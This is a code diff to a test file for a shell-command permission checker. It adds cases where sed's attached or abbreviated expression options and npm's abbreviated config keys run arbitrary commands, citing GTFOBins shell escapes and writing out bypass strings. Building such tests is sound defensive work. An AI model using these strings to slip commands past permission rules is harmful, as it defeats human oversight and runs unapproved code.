@@ -8,7 +8,8 @@
 // xdg-user-dir's eval); options and operands that load code (mypy --python-executable and @FILE, gcc/nm/rustc
 // @FILE, ffmpeg's ladspa/frei0r filters, tshark -X lua_script:, mysql --default-auth, cmake -P); options that
 // write a file (mypy reports, tsc --outFile, pip --log, logrotate -l, iptables-save -f, tar -P extraction, a
-// compiler's or downloader's output outside the working directory). And over-asks fixed: interpreters whose
+// compiler's or downloader's output outside the working directory); sed's clusters and prefixes (`sed '-e1e CMD'`,
+// `--expr=`) and npm's abbreviated configuration keys (`--script-s=PROG`). And over-asks fixed: interpreters whose
 // single-dash words are options of their own (`latexmk -xelatex`, `ghc -Werror`, `pwsh -NonInteractive`).
 //   - deny: the line runs a command a deny rule names;
 //   - not-allow: an allow pattern matches the words, but the line runs, loads or writes what the allow
@@ -228,6 +229,36 @@ const CLASSES: readonly BashClass[] = [
     ],
   },
   {
+    name: "sed read as GNU getopt_long reads it: -e with its script attached (`-e1e CMD`, `-ne1e CMD`), -l N before the script, unique prefixes (`--expr=`, `--e=`, `--fi=`, `--in-pl=`); npm and pnpm (nopt) expand a unique prefix of a configuration key (`--script-s=PROG` is --script-shell, `--edit=` --editor)",
+    source: "GTFOBins: sed (Shell, Command: `sed -n '1e exec sh 1>&0' /etc/hosts`), npm (Shell: `npm run --script-shell`); GNU sed manual 'Command-Line Options' ('-e script, --expression=script', '-l N, --line-length=N') and getopt(3) (an option's argument may follow in the same word); nopt README ('abbrev: ... --foolhar will be parsed as --foolhardy'); npm docs 'script-shell'",
+    allow: ["sed:*", "npm:*", "npm run t:*", "pnpm:*"],
+    cases: [
+      { command: `sed '-e1e ${X}' a.txt`, expect: "deny" },
+      { command: `sed '-ne1e ${X}' a.txt`, expect: "deny" },
+      { command: `sed -n '-e1e ${X}' a.txt`, expect: "deny" },
+      { command: `sed -E -e 's/a/b/' '-e1e ${X}' a.txt`, expect: "deny" },
+      { command: `sed -l 5 '1e ${X}' a.txt`, expect: "deny" },
+      { command: `sed --e='1e ${X}' a.txt`, expect: "deny" },
+      { command: `sed -s --expr '1e ${X}' a.txt`, expect: "deny" },
+      { command: "sed -n --expr='w /etc/x' a.txt", expect: "not-allow", reason: /sed writes a file \(the w command\)/ },
+      { command: "sed --fi=prog.sed a.txt", expect: "not-allow", reason: /sed runs the script in a file/ },
+      { command: "sed --in-pl=.bak s/a/b/ a.txt", expect: "not-allow", reason: /sed edits files in place/ },
+      { command: "npm run t --script-sh=rm", expect: "deny" },
+      { command: "npm test --scr=rm", expect: "deny" },
+      { command: "npm run t --edit=./evil", expect: "not-allow", reason: /npm runs a command through --editor/ },
+      { command: "npm install --git=./evil x", expect: "not-allow", reason: /npm runs a command through --git/ },
+      { command: "sed -n 's/a/b/p' a.txt", expect: "allow" },
+      { command: "sed -n -e '/x/p' -e '/y/p' a.txt", expect: "allow" },
+      { command: "sed -l 80 -n l a.txt", expect: "allow" },
+      { command: "sed -- 's/a/b/' a.txt", expect: "allow" },
+      { command: "npm install --global typescript", expect: "allow" },
+      { command: "npm run build --if-present", expect: "allow" },
+      { command: "npm ci --omit=dev", expect: "allow" },
+      { command: "npm run t", expect: "allow" },
+      { command: "pnpm install --frozen-lockfile", expect: "allow" },
+    ],
+  },
+  {
     name: "interpreters whose single-dash words are options of their own, not clusters of letters: `latexmk -xelatex`, `latexmk -recorder`, `ghc -Werror -package`, `pwsh -NonInteractive`, `jrunscript -encoding`, `gnuplot -persist` hold no -e or -c (over-asks fixed; the code options still read)",
     source: "latexmk(1) ('-xelatex - use xelatex', '-recorder - Use -recorder option for (pdf)latex'); GHC user's guide ('-Werror', '-package ⟨pkg⟩', '-e ⟨expr⟩'); PowerShell about_Pwsh ('-NonInteractive', '-Command | -c'); jrunscript(1) ('-encoding encoding', '-e script'); gnuplot(1) ('-persist', '-e \"command list\"'); GTFOBins: latexmk, ghc, pwsh, jrunscript, gnuplot (Shell)",
     allow: ["latexmk:*", "ghc:*", "pwsh:*", "jrunscript:*", "gnuplot:*"],
@@ -332,6 +363,14 @@ const REAL: readonly { line: string; run: string; program: string; allow: readon
   { line: `zip --unzip-c='${X} #' -T a.zip a.txt`, run: "zip --unzip-c='touch MARKER #' -T a.zip a.txt", program: "zip", allow: ["zip:*"] },
   { line: `gdb -eval-command='shell ${X}' --batch`, run: "gdb -nx -eval-command='shell touch MARKER' --batch", program: "gdb", allow: ["gdb:*"] },
   { line: `gdb -eval-c='shell ${X}' --batch`, run: "gdb -nx -eval-c='shell touch MARKER' --batch", program: "gdb", allow: ["gdb:*"] },
+  { line: `sed '-e1e ${X}' a.txt`, run: "sed '-e1e touch MARKER' a.txt", program: "sed", allow: ["sed:*"] },
+  { line: `sed '-ne1e ${X}' a.txt`, run: "sed '-ne1e touch MARKER' a.txt", program: "sed", allow: ["sed:*"] },
+  { line: `sed -l 5 '1e ${X}' a.txt`, run: "sed -l 5 '1e touch MARKER' a.txt", program: "sed", allow: ["sed:*"] },
+  { line: `sed --e='1e ${X}' a.txt`, run: "sed --e='1e touch MARKER' a.txt", program: "sed", allow: ["sed:*"] },
+  { line: "sed -n --expr='w /etc/x' a.txt", run: "sed -n --expr='w OUT' a.txt", program: "sed", allow: ["sed:*"] },
+  { line: "sed -l 80 -n l a.txt", run: "sed -l 80 -n l a.txt", program: "sed", allow: ["sed:*"], left: false },
+  { line: "npm run t --script-sh=rm", run: `${EV} && echo '{"name":"x","version":"1.0.0","scripts":{"t":"echo hi"}}' > package.json && npm run t --silent --script-sh=./ev`, program: "npm", allow: ["npm run t:*"] },
+  { line: "npm test --scr=rm", run: `${EV} && echo '{"name":"x","version":"1.0.0","scripts":{"test":"echo hi"}}' > package.json && npm test --silent --scr=./ev`, program: "npm", allow: ["npm:*"] },
   { line: "curl --upload-f /etc/x http://h/", run: "curl -s --upload-f a.txt \"file://$PWD/OUT\"", program: "curl", allow: ["curl:*"] },
 ];
 
